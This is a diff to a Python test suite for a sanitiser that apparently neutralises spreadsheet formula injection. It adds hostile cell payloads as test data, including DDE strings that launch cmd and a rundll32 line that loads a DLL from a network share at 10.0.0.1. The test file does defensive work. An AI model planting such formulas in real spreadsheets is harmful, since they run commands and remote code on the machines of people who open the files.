@@ -252,26 +252,38 @@ PAYLOADS = [
     "+12125550100=1",
     "+12125550100\n=1",
     "+0123456789",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "\u200b@SUM(1+9)*cmd|' /C calc'!A0",
+    '=DDE ("cmd";"/C calc";"!A0")A0',
+    "=10+20+cmd|' /C calc'!A0",
+    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
 ]
 
 
-@pytest.mark.parametrize("payload", [text for text in PAYLOADS if text != "+0123456789"])
+@pytest.mark.parametrize("payload", PAYLOADS)
 def test_a_cell_that_looks_like_a_formula_is_made_inert(payload: str) -> None:
     assert inert(payload) == "'" + payload
 
 
-@pytest.mark.parametrize("cell", ["+12125550100", "+442079460958", "-5", "-0.5", "12", "Ada = Ben", "", None, -3, 0.5])
+@pytest.mark.parametrize("cell", ["12", "1.5", "Ada = Ben", "", None, -3, 0.5])
 def test_numbers_and_harmless_text_stay_as_they_are(cell: object) -> None:
     assert inert(cell) == cell
+    assert inert(cell, phone=True) == cell
 
 
-@given(st.text(max_size=12))
-def test_no_cell_starts_like_a_formula_unless_it_is_a_plain_number(cell: str) -> None:
-    found = inert(cell)
-    assert isinstance(found, str)
+@pytest.mark.parametrize("cell", ["+12125550100", "+442079460958", "-5"])
+def test_only_an_e164_number_in_a_phone_column_keeps_its_sign(cell: str) -> None:
+    assert inert(cell) == "'" + cell
+    assert inert(cell, phone=True) == (cell if cell[0] == "+" else "'" + cell)
+
+
+@given(st.text(max_size=12), st.booleans())
+def test_no_cell_starts_like_a_formula_unless_it_is_a_phone_number(cell: str, phone: bool) -> None:
+    found = inert(cell, phone=phone)
     assert found in {cell, "'" + cell}
-    if found.lstrip(" ")[:1] in set("=+-@\t\r"):
-        assert found == "" or found.lstrip("+-").replace(".", "", 1).replace(",", "", 1).isdecimal()
+    if found == cell and cell.lstrip()[:1] in set("=+-@\t\r\0"):
+        assert cell.strip() == "" or (phone and cell[0] == "+" and cell[1:].isdigit())
 
 
 def _cells(text: str) -> dict[str, Any]:
